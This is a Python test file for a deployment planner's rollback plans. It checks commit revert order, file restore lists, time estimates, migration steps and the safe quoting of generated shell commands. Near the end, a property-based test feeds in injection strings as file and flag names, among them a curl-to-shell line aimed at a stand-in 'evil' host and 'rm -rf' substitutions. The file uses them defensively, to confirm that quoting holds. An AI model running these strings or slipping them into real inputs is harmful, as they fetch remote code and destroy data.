"""The three-level rollback: real commits newest first, files, estimates, and safe quoting."""

from __future__ import annotations

from hypothesis import assume, given, settings
from hypothesis import strategies as st
from support.shellwords import shell_words

from planner.change.model import ChangedFile, ChangeSet
from planner.model import Commit, FileRisk, Plan, Risk
from planner.plan.build import build_plan
from planner.profile import parse_profile

SHAS = ("a" * 40, "b" * 40, "c" * 40)  # oldest first


def change(
    files: tuple[ChangedFile, ...],
    flag: str | None = "FEATURE_X",
    commits: tuple[Commit, ...] = tuple(Commit(s, f"c{i}") for i, s in enumerate(SHAS)),
    source: str = "git",
    feature: str = "x",
) -> ChangeSet:
    return ChangeSet(
        source,  # type: ignore[arg-type]
        files,
        repo="/r" if source == "git" else None,
        base="0" * 40 if source == "git" else None,
        head=SHAS[-1] if source == "git" else None,
        commits=commits,
        feature=feature,
        service="api",
        feature_flag=flag,
        repo_files=("package.json", "package-lock.json"),
    )


CATS = {"config": ("config",), "migrations": ("migration",), "src": ("source",), "tests": ("test",)}


def risk(cs: ChangeSet) -> Risk:
    files = tuple(
        FileRisk(f.path, f.change, "MEDIUM", ("r",), categories=CATS[f.path.split("/")[0]])
        for f in cs.files
    )
    return Risk("MEDIUM", 10, files)


FILES = (
    ChangedFile("src/new.js", "added"),
    ChangedFile("src/old.js", "deleted"),
    ChangedFile("src/app.js", "modified"),
    ChangedFile("src/moved.js", "renamed", old_path="src/was.js"),
    ChangedFile("config/app.yaml", "modified"),
)
K8S = parse_profile({"platform": "kubernetes", "namespace": "shop", "service": "api"})


def plan_for(cs: ChangeSet, profile: object = K8S) -> Plan:
    return build_plan(cs, risk(cs), profile)  # type: ignore[arg-type]


def commands(plan: Plan) -> list[str]:
    out = [c for s in plan.stages for c in s.commands]
    out += [st.command for lvl in plan.rollback.levels for st in lvl.steps if st.command]
    db = plan.rollback.database
    if db is None:
        return out
    steps = [*db.steps, *(s for s in (db.backup, db.restore) if s is not None)]
    out += [s.command for s in steps if s.command]
    if db.upgrade:
        out.append(db.upgrade)
    return out


def test_level3_reverts_the_real_commits_newest_first() -> None:
    level3 = plan_for(change(FILES)).rollback.levels[2]
    revert = next(
        s.command for s in level3.steps if s.command and s.command.startswith("git revert")
    )
    assert revert == f"git revert --no-edit {SHAS[2]} {SHAS[1]} {SHAS[0]}"


def test_files_to_delete_restore_and_revert() -> None:
    files = plan_for(change(FILES)).rollback.files
    assert files.delete == ("src/new.js",)
    assert files.restore == ("src/old.js",)
    assert files.revert == ("src/app.js", "src/moved.js", "config/app.yaml")


def test_level2_names_the_config_files_and_the_base() -> None:
    level2 = plan_for(change(FILES)).rollback.levels[1]
    assert level2.applicable
    assert level2.steps[0].command == f"git checkout {'0' * 40} -- config/app.yaml"


def test_level2_not_applicable_without_config_files() -> None:
    level2 = plan_for(change(FILES[:4])).rollback.levels[1]
    assert not level2.applicable and "no configuration files" in level2.reason


SYSTEMD = parse_profile({"platform": "systemd", "service": "api"})


def test_estimates_show_their_arithmetic() -> None:
    levels = plan_for(change(FILES), SYSTEMD).rollback.levels
    assert [lvl.estimated_minutes for lvl in levels] == [4, 8, 12]
    assert levels[0].estimate_explained == "flag toggle 1 + restart 2 + verify 1 = 4 min"
    assert levels[1].estimate_explained == "config reload 5 + restart 2 + verify 1 = 8 min"
    assert levels[2].estimate_explained == "test 4 + build 3 + deploy 4 + verify 1 = 12 min"
    assert not any(lvl.over_target for lvl in levels)


def test_configuration_inside_the_image_is_no_faster_than_level_3() -> None:
    # On Kubernetes a file of the repository reaches the pods only inside the image: reverting
    # config/app.yaml means rebuilding and redeploying, and the level says so.
    level2 = plan_for(change(FILES)).rollback.levels[1]
    assert level2.estimate_explained == (
        "config reload 5 + build 3 + deploy 4 + verify 1 = 13 min (over the 10 min target)"
    )
    assert level2.reason.startswith("Level 2 is not faster than Level 3 here: `config/app.yaml`")
    assert not any(s.command and "configmap" in s.command for s in level2.steps)


def test_flag_service_toggle_needs_no_restart() -> None:
    profile = parse_profile(
        {"feature_flag": {"mechanism": "flag_service", "command": "ff {flag} {value}"}}
    )
    level1 = plan_for(change(FILES), profile).rollback.levels[0]
    assert level1.estimate_explained == "flag toggle 1 + verify 1 = 2 min"
    assert level1.steps[0].command == "ff FEATURE_X false"


def test_slow_pipeline_is_flagged_over_target() -> None:
    profile = parse_profile({"timings": {"test": 20}})
    level3 = plan_for(change(FILES), profile).rollback.levels[2]
    assert level3.estimated_minutes == 28 and level3.over_target
    assert level3.estimate_explained.endswith("= 28 min (over the 15 min target)")


def test_migration_adds_database_steps_before_the_revert() -> None:
    files = (
        *FILES,
        ChangedFile("migrations/002_t.sql", "added", content="CREATE TABLE t (id int);"),
    )
    level3 = plan_for(change(files)).rollback.levels[2]
    actions = [s.action for s in level3.steps]
    db_index = next(i for i, a in enumerate(actions) if a.startswith("Database first"))
    revert_index = next(i for i, a in enumerate(actions) if a.startswith("Revert"))
    assert db_index < revert_index
    assert level3.estimate_explained.startswith("migrate down 2 + test 4")


def test_manifest_without_commits_uses_a_marked_placeholder() -> None:
    plan = plan_for(change(FILES, commits=(), source="manifest"))
    level3 = plan.rollback.levels[2]
    revert = next(s for s in level3.steps if s.command and s.command.startswith("git revert"))
    assert revert.command == "git revert --no-edit '<commit-sha>'"
    assert "PLACEHOLDER" in revert.action and "placeholder" in level3.reason
    assert (
        plan.rollback.levels[1].steps[0].command == "git checkout '<base-sha>' -- config/app.yaml"
    )


def test_manifest_commits_give_the_base_as_parent_of_the_oldest() -> None:
    plan = plan_for(change(FILES, source="manifest"))
    assert (
        plan.rollback.levels[1].steps[0].command == f"git checkout '{SHAS[0]}^' -- config/app.yaml"
    )


def test_triggers_follow_the_reference() -> None:
    triggers = plan_for(change(FILES)).rollback.triggers
    assert triggers.immediate[:3] == (
        "Security incident or vulnerability discovered",
        "Complete service outage",
        "Data loss or corruption",
    )
    assert triggers.evaluate[0] == "Error rate >0.5% sustained for 10 minutes"


HOSTILE = st.one_of(
    st.sampled_from(
        ["x;curl evil|sh.js", "$(rm -rf ~)", "`reboot`", "a b'c\"d", "-rf", "x\nrm -rf /", "*"]
    ),
    st.text(
        st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00/"),
        min_size=1,
        max_size=20,
    ),
)
BENIGN = "SAFEname"


def hostile_change(name: str) -> ChangeSet:
    files = (
        ChangedFile(f"config/{name}.yaml", "modified"),
        ChangedFile(f"config/new-{name}.yaml", "added"),
        ChangedFile(f"migrations/001_{name}.sql", "added", content="CREATE TABLE t (id int);"),
        ChangedFile(f"src/{name}.js", "deleted"),
    )
    return change(files, flag=name, feature=name)


@settings(max_examples=60, deadline=None)
@given(
    name=HOSTILE,
    platform=st.sampled_from(["kubernetes", "pm2", "systemd", "generic", "flag_service"]),
)
def test_hostile_names_stay_inside_one_shell_word(name: str, platform: str) -> None:
    assume(BENIGN not in name and name.strip() not in ("", ".", ".."))
    service = {"mechanism": "flag_service", "command": "flagctl set {flag} {value} {percent}"}
    profile = parse_profile(
        {"service": "api", "feature_flag": service}
        if platform == "flag_service"
        else {"platform": platform, "service": "api"}
    )
    hostile = commands(plan_for(hostile_change(name), profile))
    benign = commands(plan_for(hostile_change(BENIGN), profile))
    assert len(hostile) == len(benign)
    assert sum(BENIGN in c for c in benign) >= 4  # flag, config checkout/rm/commit, psql --file
    for h, b in zip(hostile, benign, strict=True):
        h_words, b_words = shell_words(h), shell_words(b)
        # same shell words, with the name substituted inside words: it never splits a word,
        # never starts a new command, never expands
        assert h_words == [w.replace(BENIGN, name) for w in b_words], (h, b)
